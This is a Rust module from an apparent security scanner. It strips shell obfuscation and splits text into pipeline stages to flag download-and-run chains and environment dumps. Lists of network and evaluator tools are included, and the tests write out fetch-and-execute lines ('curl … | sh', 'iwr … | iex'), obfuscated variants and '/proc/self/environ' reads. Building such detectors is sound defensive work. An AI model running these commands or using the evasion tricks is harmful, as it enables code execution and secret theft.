//! A tolerant reader of pipelines in text of any kind: a script, a code block, a sentence with a command in
//! it, a string in another language.
//!
//! [`plain`] removes what hides a command from a reader (quotes inside words, `${IFS}`, line
//! continuations), and [`stages`] returns the commands of a text with the connections between them. Both
//! find too much rather than too little, and nothing is decided by them: they serve the search for text
//! that a person should read.

use std::ops::Range;

use crate::programs::code::Code;
use crate::programs::code_of;

/// Most bytes of a text that are read.
pub const MAX_BYTES: usize = 16 * 1024;
/// Most stages of a text.
const MAX_STAGES: usize = 512;
/// Most stages of a pipeline that pass something on.
const MAX_PIPELINE: usize = 12;
/// Most words of a stage.
const MAX_WORDS: usize = 256;

/// Text without what hides a command from a reader, and the way back to the original.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct PlainCode {
    /// The text.
    pub text: String,
    /// For each byte of it, the offset in the original.
    offsets: Vec<u32>,
    /// Length of the original.
    length: usize,
}

impl PlainCode {
    /// Converts a range of the text to a range of the original.
    pub fn origin(&self, range: Range<usize>) -> Range<usize> {
        let at = |index: usize| self.offsets.get(index).map(|&offset| offset as usize);
        let start = at(range.start).unwrap_or(self.length);
        // The character after the last one may be far away.
        let last = range.end.checked_sub(1).and_then(at);
        start..last.map_or(start, |last| (last + 1).max(start))
    }
}

/// Variables that stand for blanks.
const BLANKS: [&str; 4] = ["${IFS}", "$IFS$9", "$IFS", "${IFS%??}"];

/// Removes line continuations, quotes, backslashes and empty expansions inside words, and writes
/// `${IFS}` and brace lists with blanks.
pub fn plain(source: &str) -> PlainCode {
    let mut end = source.len().min(MAX_BYTES);
    while !source.is_char_boundary(end) {
        end -= 1;
    }
    let source = &source[..end];
    let bytes = source.as_bytes();
    let mut code = PlainCode {
        text: String::with_capacity(end),
        offsets: Vec::with_capacity(end),
        length: end,
    };
    let mut at = 0;
    // The end of a brace list such as `{curl,-s,x}`.
    let mut brace = 0;
    while let Some(c) = source[at..].chars().next() {
        let rest = &source[at..];
        let next = bytes.get(at + c.len_utf8()).copied().unwrap_or(b' ');
        let before = code.text.as_bytes().last().copied().unwrap_or(b' ');
        let is_inside = before.is_ascii_alphanumeric() && next.is_ascii_alphanumeric();
        let skipped = match c {
            '\\' if next == b'\n' => 2,
            '\\' if rest.starts_with("\\\r\n") => 3,
            // `cu\rl`; but not `\x41`, and not a path of Windows.
            '\\' if is_inside && before.is_ascii_lowercase() && next.is_ascii_lowercase() => {
                let is_escape = next == b'x' || next == b'u';
                usize::from(!is_escape && !has_backslashes(bytes, at))
            }
            // `\curl`
            '\\' if next.is_ascii_lowercase()
                && matches!(before, b' ' | b'\t' | b'|' | b';' | b'(')
                && bytes.get(at + 2).is_some_and(u8::is_ascii_lowercase)
                && next != b'x'
                && next != b'u' =>
            {
                1
            }
            '\'' | '"' => concatenation(bytes, at).unwrap_or_else(|| {
                // `c'u'rl`, `cu''rl`
                let is_empty = next == bytes[at] && before.is_ascii_alphanumeric();
                let goes_on = bytes.get(at + 2).is_some_and(u8::is_ascii_alphanumeric);
                if is_empty && goes_on {
                    2
                } else {
                    usize::from(is_inside && is_short(bytes, at))
                }
            }),
            '`' | '^' if is_inside && before.is_ascii_alphabetic() && is_short(bytes, at) => 1,
            '$' => {
                let blank = BLANKS.iter().find(|blank| rest.starts_with(**blank));
                if let Some(blank) = blank {
                    code.push(' ', at);
                    at += blank.len();
                    continue;
                }
                let empty = ["$@", "$*", "${@}"].into_iter();
                empty
                    .filter(|empty| rest.starts_with(empty) && before.is_ascii_alphanumeric())
                    .map(str::len)
                    .find(|length| {
                        bytes
                            .get(at + length)
                            .is_some_and(u8::is_ascii_alphanumeric)
                    })
                    .unwrap_or(0)
            }
            '{' if matches!(before, b' ' | b'\t' | b'\n' | b'|' | b';' | b'(' | b'`') => {
                brace = brace_list(bytes, at).unwrap_or(0);
                usize::from(brace > 0)
            }
            ',' | '}' if at < brace => {
                code.push(' ', at);
                1
            }
            _ => 0,
        };
        if skipped > 0 {
            at += skipped;
        } else {
            code.push(c, at);
            at += c.len_utf8();
        }
    }
    code
}

impl PlainCode {
    fn push(&mut self, c: char, at: usize) {
        self.text.push(c);
        for part in 0..c.len_utf8() {
            let offset = u32::try_from(at + part).unwrap_or(u32::MAX);
            self.offsets.push(offset);
        }
    }
}

/// Returns `true` if the word around an offset has other backslashes: it is a path.
fn has_backslashes(bytes: &[u8], at: usize) -> bool {
    let is_end = |byte: &u8| byte.is_ascii_whitespace();
    let before = bytes[..at].iter().rev().take(64).take_while(|b| !is_end(b));
    let after = bytes[at + 1..].iter().take(64).take_while(|b| !is_end(b));
    before
        .chain(after)
        .any(|&byte| byte == b':' || byte == b'%')
        || {
            let after = bytes[at + 1..].iter().take(64).take_while(|b| !is_end(b));
            after.filter(|&&byte| byte == b'\\').count() > 2
        }
}

/// Returns the length of `" + "` between two strings, from the first quote to the second.
fn concatenation(bytes: &[u8], at: usize) -> Option<usize> {
    let blank = |from: usize| {
        let rest = bytes.get(from..)?;
        let blanks = rest.iter().take(8).take_while(|byte| **byte == b' ');
        Some(from + blanks.count())
    };
    let plus = blank(at + 1)?;
    let quote = blank(plus + 1)?;
    let is_sum = bytes.get(plus) == Some(&b'+') && bytes.get(quote) == Some(&bytes[at]);
    is_sum.then_some(quote + 1 - at)
}

/// Returns `true` if the same mark opens or closes within a few bytes, so that both are inside a word.
fn is_short(bytes: &[u8], at: usize) -> bool {
    let near = |byte: &&u8| byte.is_ascii_alphanumeric();
    let before = bytes[..at].iter().rev().take(12).find(|byte| !near(byte));
    let after = bytes[at + 1..].iter().take(12).find(|byte| !near(byte));
    before == Some(&bytes[at]) || after == Some(&bytes[at])
}

/// Returns the offset after a list such as `{curl,-s,x}`.
fn brace_list(bytes: &[u8], at: usize) -> Option<usize> {
    let inner = &bytes[at + 1..bytes.len().min(at + 256)];
    let end = inner.iter().position(|byte| *byte == b'}')?;
    let list = &inner[..end];
    let is_other = |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'$');
    let is_list = list.first().is_some_and(u8::is_ascii_alphabetic)
        && list.contains(&b',')
        && !list.iter().any(is_other)
        // `{a:1,b:2}` is a value of some language.
        && !list.windows(2).any(|pair| pair[0] == b':' && pair[1] != b'/');
    // `{a,b}` alone is a word list of any language; a command has an option or an address.
    let is_command = list.windows(2).any(|pair| pair == b",-" || pair == b"//");
    (is_list && is_command).then_some(at + 2 + end)
}

/// The connection of a stage to the one before it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum StageLink {
    /// Runs after it.
    Then,
    /// Reads its output: `a | b`.
    Pipe,
    /// Its output becomes text of that stage: `a $(b)`, `a <(b)`.
    Inside,
}

/// One command in a text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Stage<'t> {
    /// The words, without quotes.
    pub words: Vec<&'t str>,
    /// Range in the text.
    pub range: Range<usize>,
    /// The connection to the stage before it; of [`StageLink::Inside`], to the stage around it.
    pub link: StageLink,
    /// Index of the stage around it.
    pub around: Option<usize>,
}

/// Splits a text into the commands that it may contain.
pub fn stages(text: &str) -> Vec<Stage<'_>> {
    let bytes = text.as_bytes();
    let mut found: Vec<Stage<'_>> = Vec::new();
    let mut around: Vec<Option<usize>> = Vec::new();
    let mut in_backticks = false;
    let (mut start, mut link) = (0, StageLink::Then);
    let mut at = 0;
    while at <= bytes.len() && found.len() < MAX_STAGES {
        let byte = bytes.get(at).copied();
        let next = bytes.get(at + 1).copied();
        let before = at.checked_sub(1).and_then(|at| bytes.get(at)).copied();
        // The mark, the connection of what follows, and the change of depth.
        let (length, following, depth) = match (byte, next) {
            (Some(b'|'), Some(b'|')) | (Some(b'&'), Some(b'&')) => (2, StageLink::Then, 0),
            (Some(b'|'), Some(b'&')) => (2, StageLink::Pipe, 0),
            (Some(b'|'), _) => (1, StageLink::Pipe, 0),
            // Descriptors: `2>&1`, `&>`
            (Some(b'&'), Some(b'>')) => (0, StageLink::Then, 0),
            (Some(b'&'), _) if matches!(before, Some(b'>' | b'<')) => (0, StageLink::Then, 0),
            // Parameters of an address.
            (Some(b'&'), Some(c)) if c.is_ascii_alphanumeric() => (0, StageLink::Then, 0),
            (None | Some(b';' | b'\n' | b'&'), _) => (1, StageLink::Then, 0),
            (Some(b'$' | b'<' | b'>'), Some(b'(')) => (2, StageLink::Inside, 1),
            // A call in another language is not a command; `iex(…)` is one.
            (Some(b'('), _) if is_call(&text[start..at]) => (1, StageLink::Then, 2),
            (Some(b'('), _) => (1, StageLink::Inside, 1),
            (Some(b')'), _) => (1, StageLink::Then, -1),
            (Some(b'`'), _) => {
                in_backticks = !in_backticks;
                let change = if in_backticks { 1 } else { -1 };
                (1, StageLink::Inside, change)
            }
            _ => (0, StageLink::Then, 0),
        };
        if length == 0 {
            at += 1;
            continue;
        }
        let end = at.min(bytes.len());
        let words = words(&text[start..end]);
        if !words.is_empty() {
            let outer = around.last().copied().flatten();
            found.push(Stage {
                words,
                range: start..end,
                link: if link == StageLink::Inside && outer.is_none() {
                    StageLink::Then
                } else {
                    link
                },
                around: outer,
            });
            link = following;
        } else if following == StageLink::Pipe || link != StageLink::Pipe {
            link = following;
        }
        match depth {
            1 => around.push(found.len().checked_sub(1)),
            2 => around.push(None),
            -1 => {
                around.pop();
            }
            _ => {}
        }
        at += length;
        start = at;
    }
    found
}

/// Returns `true` if a text ends with the name of a function, before its parenthesis.
fn is_call(text: &str) -> bool {
    let is_name = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-';
    let name = text
        .rsplit(|c: char| !is_name(c))
        .next()
        .unwrap_or_default();
    let evaluators = ["iex", "invoke-expression", "eval"];
    !name.is_empty() && !evaluators.contains(&name.to_ascii_lowercase().as_str())
}

/// Returns the words of a stage. Quotes, brackets and commas separate words as blanks do, because the
/// text may be a string or a list in any language.
fn words(text: &str) -> Vec<&str> {
    let is_separator =
        |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | '[' | ']' | '{' | '}');
    text.split(is_separator)
        .filter(|word| !word.is_empty() && *word != "\\")
        .take(MAX_WORDS)
        .collect()
}

/// Programs and commands that print or store what an address serves.
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "aria2c",
    "axel",
    "fetch",
    "lynx",
    "w3m",
    "http",
    "https",
    "xh",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-bitstransfer",
    "certutil",
    "bitsadmin",
    "curlie",
];
/// Programs that send what they read to another machine.
const SENDERS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "http",
    "https",
    "xh",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "scp",
    "rsync",
    "ftp",
    "tftp",
    "sendmail",
    "mail",
    "curlie",
];
/// Commands that run the words or the input that they are given.
const EVALUATORS: &[&str] = &[
    "eval",
    "source",
    ".",
    "iex",
    "invoke-expression",
    "exec",
    "xargs",
    "parallel",
];
/// Words before the program that a line runs.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "exec", "command", "nohup", "time", "nice", "setsid", "stdbuf",
    "builtin", "busybox", "timeout", "do", "then", "else", "!", "$",
];
/// Shells, by name: the table of programs also has those of other systems.
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "ash",
    "csh",
    "tcsh",
    "pwsh",
    "powershell",
    "cmd",
];
/// Programs that print the environment.
const ENVIRONMENT: &[&str] = &[
    "env",
    "printenv",
    "export",
    "declare",
    "set",
    "gci",
    "get-childitem",
];

/// Returns the name of a program, without its folder, in lower case.
pub fn program_name(word: &str) -> String {
    let word = word.trim_start_matches(['$', '>', '#', '&', '@', '-', '*']);
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let name = name.to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    name.trim_end_matches([':', '.']).to_owned()
}

/// Returns `true` if a word precedes the program that a line runs: `sudo`.
pub fn is_wrapper(word: &str) -> bool {
    WRAPPERS.contains(&word)
}

/// Returns `true` if a program runs the file that is its first word: a shell, an interpreter, `source`.
pub fn runs_file(program: &str) -> bool {
    let name = program_name(program);
    let plain = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    SHELLS.contains(&name.as_str())
        || ["source", "start-process"].contains(&name.as_str())
        || matches!(
            code_of(plain),
            Some((_, Code::Shell | Code::Interpreter { .. }))
        )
}

/// Returns `true` if a command makes a file executable: `chmod +x`, `chmod 755`.
pub fn makes_executable(command: &str) -> bool {
    let mut words = command
        .split_whitespace()
        .skip_while(|word| is_wrapper(word));
    words.next() == Some("chmod")
        && words.any(|word| word.contains("+x") || word.contains(['1', '3', '5', '7']))
}

impl<'t> Stage<'t> {
    /// Returns the words from the program on, without assignments, wrappers and their options.
    pub fn command(&self) -> &[&'t str] {
        let mut at = 0;
        let mut is_wrapped = false;
        while let Some(word) = self.words.get(at) {
            let is_assignment = word.split_once('=').is_some_and(|(name, _)| {
                name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            });
            let is_option = is_wrapped
                && (word.starts_with('-') && *word != "-"
                    || word
                        .bytes()
                        .all(|byte| byte.is_ascii_digit() || byte == b's'));
            let is_wrapper =
                WRAPPERS.contains(&program_name(word).as_str()) || *word == "$" || *word == "!";
            if !(is_assignment || is_option || is_wrapper) {
                break;
            }
            is_wrapped |= is_wrapper;
            at += 1;
        }
        // `env` alone prints the environment.
        if at == self.words.len() {
            &self.words
        } else {
            &self.words[at..]
        }
    }

    /// Returns the index of the word that names a program which downloads.
    pub fn download(&self) -> Option<usize> {
        let is_address = |word: &&str| {
            word.contains("://")
                || word.starts_with('$')
                || word.contains('.') && word.contains('/')
        };
        let at = self.position(DOWNLOADERS)?;
        self.words[at + 1..].iter().any(is_address).then_some(at)
    }

    /// Returns the index of the word that names a program which sends.
    pub fn sender(&self) -> Option<usize> {
        self.position(SENDERS)
    }

    fn position(&self, names: &[&str]) -> Option<usize> {
        let is_named = |word: &&'t str| names.contains(&program_name(word).as_str());
        self.words.iter().position(is_named)
    }

    /// Returns `true` if it runs what it reads from standard input: `sh`, `bash -s`, `python3 -`.
    pub fn runs_input(&self) -> bool {
        let command = self.command();
        let Some((program, arguments)) = command.split_first() else {
            return false;
        };
        let name = program_name(program);
        if ["iex", "invoke-expression"].contains(&name.as_str()) {
            return true;
        }
        if name == "source" || name == "." {
            return arguments
                .first()
                .is_some_and(|file| file.starts_with("/dev/"));
        }
        if SHELLS.contains(&name.as_str()) || matches!(code_of(&name), Some((_, Code::Shell))) {
            let is_file = |word: &&&str| {
                !word.starts_with('-')
                    && (word.contains('.') || word.contains('/'))
                    && !word.starts_with("/dev/")
            };
            let is_code = |word: &&str| {
                word.starts_with('-')
                    && !word.starts_with("--")
                    && word.contains('c')
                    && word.len() < 5
            };
            let has_input = arguments.iter().any(|word| *word == "-s" || *word == "-");
            return has_input
                || !arguments.iter().any(is_code)
                    && arguments.iter().take(2).find(is_file).is_none();
        }
        if matches!(name.as_str(), "xargs" | "parallel") {
            let inner = Stage {
                words: arguments
                    .iter()
                    .copied()
                    .skip_while(|word| word.starts_with('-') || word.len() < 2)
                    .collect(),
                range: self.range.clone(),
                link: self.link,
                around: None,
            };
            return inner.words.first().is_some_and(|word| {
                SHELLS.contains(&program_name(word).as_str()) && inner.words.contains(&"-c")
            });
        }
        let plain = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        matches!(code_of(plain), Some((_, Code::Interpreter { .. })))
            && [
                "python",
                "perl",
                "ruby",
                "node",
                "php",
                "deno",
                "bun",
                "lua",
                "osascript",
            ]
            .contains(&plain)
            && arguments
                .iter()
                .all(|word| matches!(*word, "-" | "-u" | "/dev/stdin"))
    }

    /// Returns `true` if it runs text that is put into its words: `eval`, `sh -c`, `source`.
    pub fn runs_text(&self) -> bool {
        let command = self.command();
        let Some((program, arguments)) = command.split_first() else {
            return false;
        };
        let name = program_name(program);
        let plain = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        let is_evaluator = (EVALUATORS.contains(&name.as_str()) || *program == ".")
            && !matches!(name.as_str(), "xargs" | "parallel");
        let takes = |options: &[&str]| {
            arguments.iter().any(|word| {
                options
                    .iter()
                    .any(|option| word.eq_ignore_ascii_case(option))
            })
        };
        is_evaluator
            || SHELLS.contains(&name.as_str())
                && (arguments.is_empty()
                    || takes(&["-c", "-lc", "-ic", "-ec", "-xc", "-command", "/c", "<"]))
            || matches!(plain, "python" | "perl" | "ruby" | "node" | "php")
                && (arguments.is_empty() || takes(&["-c", "-e", "-r", "--eval"]))
    }

    /// Returns `true` if it prints the whole environment.
    pub fn dumps_environment(&self) -> bool {
        let words = &self.words;
        let first = words
            .iter()
            .position(|word| ENVIRONMENT.contains(&program_name(word).as_str()));
        let Some(at) = first.filter(|at| *at < 2) else {
            return words
                .first()
                .is_some_and(|program| program_name(program) == "cat")
                && words
                    .iter()
                    .any(|word| word.starts_with("/proc/") && word.ends_with("/environ"));
        };
        let arguments = &words[at + 1..];
        match program_name(words[at]).as_str() {
            "set" => arguments.is_empty(),
            "export" | "declare" => arguments
                .iter()
                .all(|word| matches!(*word, "-p" | "-x" | "-px" | "-xp")),
            "gci" | "get-childitem" => arguments
                .first()
                .is_some_and(|word| word.to_ascii_lowercase().starts_with("env:")),
            _ => arguments
                .iter()
                .all(|word| word.starts_with(['-', '>', '2'])),
        }
    }
}

/// Returns the stage that reads or runs the output of another, directly or through stages that pass it on.
pub fn consumer<'s, 't>(
    stages: &'s [Stage<'t>],
    from: usize,
    is_end: &dyn Fn(&Stage<'t>) -> bool,
) -> Option<&'s Stage<'t>> {
    // Later stages of the same pipeline.
    let depth = stages.get(from)?.around;
    for stage in stages.iter().skip(from + 1).take(MAX_PIPELINE) {
        if stage.around == depth || stage.link == StageLink::Pipe {
            if stage.link != StageLink::Pipe {
                break;
            }
            if is_end(stage) {
                return Some(stage);
            }
        }
    }
    None
}

/// Returns the stages around a stage, the innermost first.
pub fn surroundings<'s, 't>(
    stages: &'s [Stage<'t>],
    from: usize,
) -> impl Iterator<Item = &'s Stage<'t>> {
    let mut at = stages.get(from).and_then(|stage| stage.around);
    let mut left = 8;
    std::iter::from_fn(move || {
        let index = at.filter(|_| left > 0)?;
        left -= 1;
        let stage = stages.get(index)?;
        at = stage.around.filter(|outer| *outer < index);
        Some(stage)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn obfuscated_commands_become_plain() {
        for (source, expected) in [
            ("c'u'rl x", "curl x"),
            ("cu\\rl x", "curl x"),
            ("\\curl x", "curl x"),
            ("curl${IFS}-s$IFS$9x", "curl -s x"),
            ("cu\\\nrl x", "curl x"),
            ("c$@url x", "curl x"),
            ("ba\"\"sh", "bash"),
            ("{curl,-s,http://x}|sh", "curl -s http://x |sh"),
            ("\"ba\" + \"se64\"", "\"base64\""),
            ("p^o^wershell", "powershell"),
            ("C:\\Users\\me\\data", "C:\\Users\\me\\data"),
            ("printf '\\x41\\x42'", "printf '\\x41\\x42'"),
            ("it's fine", "it's fine"),
        ] {
            assert_eq!(plain(source).text, expected, "{source}");
        }
        let code = plain("a c'u'rl b");
        let at = code.text.find("curl").unwrap();
        assert_eq!(code.origin(at..at + 4), 2..8);
    }

    #[test]
    fn stages_know_what_reads_them() {
        for (text, runs) in [
            ("curl -fsSL https://x.org/i.sh | sh", true),
            (
                "curl https://x.org/i.sh | tee log | sudo -E bash -s -- -y",
                true,
            ),
            ("bash <(curl -s https://x.org/i.sh)", true),
            ("sh -c \"$(curl -fsSL https://x.org/i.sh)\"", true),
            ("eval \"$(wget -qO- https://x.org/i.sh)\"", true),
            ("Run curl https://x.org/i.sh | sh to install it", true),
            ("iwr https://x.org/i.ps1 | iex", true),
            ("iex (irm https://x.org/i.ps1)", true),
            ("os.system(\"curl https://x.org/i.sh | bash\")", true),
            ("curl https://x.org/a.json | jq .name", false),
            ("curl https://x.org/a.json | python3 -m json.tool", false),
            (
                "curl https://x.org/a.json | python3 -c 'import json'",
                false,
            ),
            ("curl https://x.org/a.json | node parse.js", false),
            ("curl https://x.org/a.sh && bash b.sh", false),
            ("x=$(curl -s https://x.org/v); echo $x", false),
        ] {
            let stages = stages(text);
            let found = stages.iter().enumerate().any(|(at, stage)| {
                stage.download().is_some()
                    && (consumer(&stages, at, &Stage::runs_input).is_some()
                        || surroundings(&stages, at).any(Stage::runs_text))
            });
            assert_eq!(found, runs, "{text}: {stages:#?}");
        }
    }

    #[test]
    fn environment_dumps_are_whole() {
        for (text, dumps) in [
            ("env", true),
            ("printenv", true),
            ("export -p", true),
            ("set", true),
            ("cat /proc/self/environ", true),
            ("gci env:", true),
            ("env FOO=1 cargo run", false),
            ("printenv HOME", false),
            ("set -e", false),
            ("export PATH=x", false),
        ] {
            let stages = stages(text);
            assert_eq!(stages[0].dumps_environment(), dumps, "{text}");
        }
    }
}
